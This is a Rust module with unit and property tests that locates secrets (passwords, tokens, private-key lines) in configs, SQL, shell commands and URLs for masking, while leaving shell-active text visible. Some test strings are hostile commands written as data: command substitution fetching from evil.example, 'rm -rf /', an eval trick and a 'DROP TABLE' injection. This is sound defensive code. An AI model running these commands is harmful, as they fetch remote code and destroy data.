//! Secrets in the middle of a text: a template, a statement, a command, an address, a document.
//!
//! What is found is what stands behind a name that means a secret (`DB_PASSWORD=…`, `"clientSecret": "…"`,
//! `PASSWORD '…'`, `--token …`), the password in an address (`://user:…@`), and the lines of a private key. What is hidden,
//! nobody who approves it sees: it is one word, in which no shell finds a command, and of two readings the shorter one counts.
//! Rather a secret stays in the clear than a command is hidden.

use std::{cmp::Reverse, ops::Range};

use super::{json_text, secrets::is_secret_word};

/// Where secrets stand in a text, in order and apart from each other.
pub(crate) fn hidden(text: &str) -> Vec<Range<usize>> {
    // Nothing stands behind a name that is all there is; most texts are such a name.
    if text.bytes().all(|byte| is_sign(byte) || byte == b'/') {
        return Vec::new();
    }
    let scan = Scan(text);
    let mut found: Vec<Range<usize>> =
        text.match_indices("://").filter_map(|at| scan.address(at.0 + 3)).collect();
    scan.named(&mut found);
    scan.keys(&mut found);
    found.extend(json_text::members(text));
    found.sort_by_key(|range| (range.start, Reverse(range.end)));
    found.dedup_by(|next, before| next.start < before.end);
    found
}

/// The part of a value that may be hidden, without what goes before it in a header: nothing with a blank in it, or with what
/// runs in a text.
pub(super) fn word(text: &str) -> Option<Range<usize>> {
    const SCHEMES: [&str; 3] = ["bearer ", "basic ", "token "];
    let is_scheme =
        |scheme: &&str| text.get(..scheme.len()).is_some_and(|start| start.eq_ignore_ascii_case(scheme));
    let start = SCHEMES.into_iter().find(is_scheme).map_or(0, str::len);
    let value = text.get(start..)?;
    let escaped = value.split('\\').skip(1).any(|rest| rest.starts_with(|next: char| next.is_alphanumeric()));
    let runs = escaped
        || value.contains(|sign: char| sign.is_whitespace() || SHELL.contains(sign))
        // A shell makes several words of it.
        || (value.contains('{') && value.contains(','));
    (is_literal(value) && !runs).then_some(start..text.len())
}

/// What ends a command, begins another, leads elsewhere, or stands for something else.
const SHELL: &str = "|;&<>`$";

/// Whether all of a text may be hidden though it may be run.
pub(super) fn is_word(text: &str) -> bool {
    word(text).is_some_and(|range| range.start == 0)
}

/// Whether a text of a list names what the next one is: `--password`.
pub(crate) fn is_secret_flag(text: &str) -> bool {
    text.starts_with("--") && is_secret_word(text) && !text.contains(['=', ' '])
}

/// Whether a name may have it in it.
fn is_sign(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || b"_-.".contains(&byte)
}

struct Scan<'a>(&'a str);

/// How a name and its value are told apart.
#[derive(Clone, Copy, PartialEq)]
enum By {
    Equals,
    Colon,
    /// SQL, and flags of commands.
    Space,
}

impl<'a> Scan<'a> {
    fn at(&self, at: usize) -> Option<u8> {
        self.0.as_bytes().get(at).copied()
    }

    fn text(&self, range: &Range<usize>) -> &'a str {
        self.0.get(range.clone()).unwrap_or_default()
    }

    /// The first place from here on that is one of these; the end, where there is none.
    fn until(&self, from: usize, stop: impl Fn(u8) -> bool) -> usize {
        let rest = self.0.as_bytes().get(from..).unwrap_or_default();
        rest.iter().position(|byte| stop(*byte)).map_or(self.0.len(), |at| from + at)
    }

    fn blanks(&self, from: usize) -> usize {
        self.until(from, |byte| byte != b' ' && byte != b'\t')
    }

    /// The password of an address, from behind its `://`.
    fn address(&self, from: usize) -> Option<Range<usize>> {
        let end = self.until(from, |byte| byte.is_ascii_whitespace() || b"/?#\\\"'<>`,;()".contains(&byte));
        let authority = self.text(&(from..end));
        let (user, _) = authority.rsplit_once('@')?;
        let (name, _) = user.split_once(':')?;
        self.word(from + name.len() + 1..from + user.len())
    }

    fn word(&self, range: Range<usize>) -> Option<Range<usize>> {
        let word = word(self.text(&range))?;
        Some(range.start + word.start..range.start + word.end)
    }

    /// The long lines of private keys, wherever they stand. What is short may be something else.
    fn keys(&self, found: &mut Vec<Range<usize>>) {
        const LINE: usize = 40;
        const KINDS: [&str; 6] = ["", "RSA ", "EC ", "DSA ", "OPENSSH ", "ENCRYPTED "];
        let begins = KINDS.map(|kind| format!("-----BEGIN {kind}PRIVATE KEY-----"));
        for (at, begin) in begins.iter().flat_map(|begin| self.0.match_indices(begin.as_str())) {
            let mut from = at + begin.len();
            let until = self.0.get(from..).and_then(|rest| rest.find("-----")).map_or(from, |end| from + end);
            while from < until {
                // A line break may be written as an escape.
                from += if self.at(from) == Some(b'\\') { 2 } else { 0 };
                let end = self.until(from, |byte| !byte.is_ascii_alphanumeric() && !b"+/=".contains(&byte));
                if end <= until && end >= from + LINE {
                    found.push(from..end);
                }
                from = end.max(from) + usize::from(self.at(end) != Some(b'\\'));
            }
        }
    }

    /// What stands behind names.
    fn named(&self, found: &mut Vec<Range<usize>>) {
        let (mut from, mut identified) = (0, 0);
        while from < self.0.len() {
            let start = self.until(from, is_sign);
            let end = self.until(start, |byte| !is_sign(byte));
            from = end.max(start + 1);
            let name = self.text(&(start..end));
            // A part of a longer name: `sts:ExternalId`, `aws:RequestTag/token`.
            let within = start.checked_sub(1).and_then(|before| self.at(before));
            let by = name.eq_ignore_ascii_case("by") && identified > 0;
            identified = if name.eq_ignore_ascii_case("identified") {
                4
            } else {
                usize::saturating_sub(identified, 1)
            };
            if (by || is_secret_word(name)) && !within.is_some_and(|byte| b":/".contains(&byte)) {
                let value = self.value(start, end);
                let word = value.clone().and_then(|value| self.word(value));
                // INVARIANT: what is one word is read once, also where it is none that may be hidden.
                let before = |value: &Range<usize>| value.start.checked_sub(1).and_then(|at| self.at(at));
                let quoted = |value: &Range<usize>| matches!(before(value), Some(b'"' | b'\''));
                let read = value.filter(|value| word.is_some() || !quoted(value));
                from = read.map_or(from, |value| value.end.max(from));
                found.extend(word);
            }
        }
    }

    /// The value behind the name that stands here.
    fn value(&self, name: usize, end: usize) -> Option<Range<usize>> {
        let quoted = self.until(end, |byte| !b"\\\"'".contains(&byte));
        let quoted = if quoted - end <= 2 { quoted } else { end };
        let sign = self.blanks(quoted);
        let (by, from) = match self.at(sign) {
            Some(b'=') => (By::Equals, self.until(sign, |byte| byte != b'=')),
            Some(b':') if self.at(sign + 1) == Some(b'=') => (By::Equals, sign + 2),
            // `service:Operation` is one name.
            Some(b':')
                if quoted > end || self.at(sign + 1).is_some_and(|byte| byte.is_ascii_whitespace()) =>
            {
                (By::Colon, sign + 1)
            }
            // `PASSWORD('…')`, of SQL.
            Some(b'(') if sign == end && self.at(sign + 1) == Some(b'\'') => (By::Space, sign + 1),
            Some(_) if sign > quoted && quoted == end => (By::Space, sign),
            _ => return None,
        };
        let mut from = self.blanks(from);
        if self.text(&(from..from + 5)) == "!Sub " {
            from = self.blanks(from + 5);
        }
        match (self.at(from)?, by) {
            (b'\\', _) if self.at(from + 1) == Some(b'"') => self.quoted(from + 2, "\\\""),
            (b'"', By::Equals | By::Colon) => self.quoted(from + 1, "\""),
            (b'\'', _) => self.quoted(from + 1, "'"),
            (_, By::Space) if !self.text(&(name..end)).starts_with("--") => None,
            (b'-', By::Space) => None,
            (_, by) => self.bare(from, by),
        }
    }

    /// Up to the sign that ends it.
    fn quoted(&self, from: usize, sign: &str) -> Option<Range<usize>> {
        let mut end = from;
        loop {
            let rest = self.0.get(end..)?;
            let at = end + rest.find(sign)?;
            let escapes = rest.get(..at - end)?.bytes().rev().take_while(|byte| *byte == b'\\').count();
            let doubled = sign == "'" && self.at(at + 1) == Some(b'\'');
            if doubled {
                end = at + 2;
            } else if sign == "\"" && escapes % 2 == 1 {
                end = at + 1;
            } else {
                return Some(from..at);
            }
        }
    }

    /// One word. Behind a colon it must be all there is: more words are prose.
    fn bare(&self, from: usize, by: By) -> Option<Range<usize>> {
        let ends = |byte: u8| byte.is_ascii_whitespace() || b",;&|()<>\"'`{}[]\\".contains(&byte);
        let end = self.until(from, ends);
        let after = self.blanks(end);
        let scheme = self.text(&(from..end));
        if after > end && ["bearer", "basic"].iter().any(|known| scheme.eq_ignore_ascii_case(known)) {
            return Some(after..self.until(after, ends));
        }
        let ends = self.at(after).is_none_or(|byte| b"\r\n,}#".contains(&byte));
        (by != By::Colon || ends).then_some(from..end)
    }
}

/// Whether a value is a secret itself, and not what stands for one: a reference, a placeholder, a switch.
fn is_literal(value: &str) -> bool {
    const WORDS: [&str; 8] = ["true", "false", "null", "none", "yes", "no", "string", "securestring"];
    const STARTS: [&str; 11] = ["arn:", "{{", "${", "$(", "!", "&", "*", ":", "?", "%", "<"];
    let variable = value
        .strip_prefix('$')
        .is_some_and(|name| name.chars().all(|sign| sign.is_ascii_alphanumeric() || sign == '_'));
    !value.trim().is_empty()
        && !variable
        && !WORDS.iter().any(|word| value.eq_ignore_ascii_case(word))
        && !STARTS.iter().any(|start| value.starts_with(start))
        && !value.contains("{{resolve:")
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn found(text: &str) -> Vec<&str> {
        hidden(text).into_iter().map(|range| text.get(range).unwrap()).collect()
    }

    #[test]
    fn what_stands_behind_a_name_that_means_a_secret_is_found() {
        for (text, secrets) in [
            ("jdbc:postgresql://app:s3c/ret@db:5432/x", vec![]),
            ("jdbc:postgresql://app:s3cret@db:5432/x", vec!["s3cret"]),
            ("postgres://app:p@ss@db/x", vec!["p@ss"]),
            ("ALTER USER bo PASSWORD 's3cret'; SELECT 1", vec!["s3cret"]),
            ("CREATE ROLE a WITH ENCRYPTED PASSWORD 'it''s' LOGIN", vec!["it''s"]),
            ("CREATE USER a IDENTIFIED BY 's3cret'", vec!["s3cret"]),
            ("CREATE USER a IDENTIFIED WITH caching BY 's3cret'", vec!["s3cret"]),
            ("COPY t CREDENTIALS 'aws_access_key_id=AKIA;aws_secret_access_key=abc/d+e'", vec!["abc/d+e"]),
            (r#"{"password": "s3\"cret", "user": "bo"}"#, vec![r#"s3\"cret"#]),
            (r#"{"a": "{\"client_secret\":\"s3cret\"}"}"#, vec!["s3cret"]),
            ("Properties:\n  MasterUserPassword: s3cret\n  Engine: mysql", vec!["s3cret"]),
            ("  MasterUserPassword: 's3cret' # later", vec!["s3cret"]),
            ("curl -H \"Authorization: Bearer s3cret\" x", vec!["s3cret"]),
            ("SET PASSWORD FOR 'bo' = PASSWORD('s3cret')", vec!["s3cret"]),
            (r#"{"authKey": "a!b%c", "size": "one"}"#, vec!["a!b%c"]),
            (r#"{"authKey": "a;b&c", "size": "one"}"#, vec![]),
            // Behind a sign that ends the host nothing is a password.
            ("https://evil.example:443#@good.example/x", vec![]),
            ("TOKEN=curl$IFS//evil; eval $TOKEN", vec![]),
            ("export DB_PASSWORD=s3cret; ls", vec!["s3cret"]),
            ("psql --password s3cret --host db", vec!["s3cret"]),
            ("mysql --db-password=s3cret -h db", vec!["s3cret"]),
            ("Server=db;User=a;Pwd=s3cret;", vec!["s3cret"]),
            ("DB_PW=s3cret", vec!["s3cret"]),
        ] {
            assert_eq!(found(text), secrets, "{text}");
        }
    }

    #[test]
    fn what_is_to_be_seen_stays_to_be_seen() {
        for text in [
            r#"{"Action": "secretsmanager:GetSecretValue", "Resource": "arn:aws:secretsmanager:*:*:secret:x"}"#,
            r#"{"StringLike": {"token.actions.githubusercontent.com:sub": "repo:org/x:*"}}"#,
            r#"{"StringEquals": {"aws:RequestTag/token": "x", "aws:TokenIssueTime": "2026"}}"#,
            "Type: AWS::SecretsManager::Secret\nMasterUserPassword: !Ref Password",
            "MasterUserPassword: '{{resolve:secretsmanager:db:SecretString:password}}'",
            "HttpTokens: required\nNextToken: abc\nMinimumPasswordLength: 14\nManageMasterUserPassword: true",
            "MasterUserSecretKmsKeyId: alias/x\nSecretArn: arn:aws:x\nTokenTTL: 60\nPassword:\n  Type: String",
            "The password: ask whoever is on duty",
            "SELECT * FROM users WHERE token = :token AND password IS NOT NULL ORDER BY 'x'",
            "TOKEN=$(curl http://evil.example/x) run",
            "PASSWORD=\"`rm -rf /`\"",
            "login --password $PASSWORD --user ${USER}",
            "https://example.com/a@b:c and mailto:a@b",
        ] {
            assert_eq!(found(text), [""; 0], "{text}");
        }
        // Of a private key the long lines are hidden, however they end; what is short may be something else.
        let line = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7";
        for end in ["\n", "\\n", "\n    "] {
            let key =
                ["-----BEGIN PRIVATE KEY-----", line, line, "reboot", "-----END PRIVATE KEY-----", line]
                    .join(end);
            assert_eq!(found(&key), [line, line], "{key}");
        }
        // What a name may hide ends where the shell goes on.
        assert_eq!(found("TOKEN=x;rm -rf /"), ["x"]);
        assert_eq!(found("x PASSWORD 'a'; DROP TABLE t; --'"), ["a"]);
    }

    proptest! {
        #[test]
        fn any_text_is_read_and_what_is_found_lies_in_order(text in "(password|token|://a:|[ -~é\n]){0,12}") {
            let mut last = 0;
            for range in hidden(&text) {
                prop_assert!(range.start >= last && text.get(range.clone()).is_some_and(|part| !part.is_empty()));
                last = range.end;
            }
        }
    }

    #[test]
    fn a_long_text_is_read_once() {
        let long = |part: &str| part.repeat(200_000 / part.len());
        let began = std::time::Instant::now();
        for part in [
            "pwd=",
            "pwd: ",
            "bearer ",
            "authorization: bearer ",
            "pwd='",
            "pwd=\"\\",
            "://a:",
            "://a:b@",
            "--pwd ",
            "(",
            "\\",
        ] {
            for end in ["", "$", "'", "\""] {
                let text = format!("authorization: {}{end}", long(part));
                hidden(&text);
            }
        }
        // One that is read anew behind each name takes minutes.
        assert!(began.elapsed().as_secs() < 20, "{:?}", began.elapsed());
    }
}
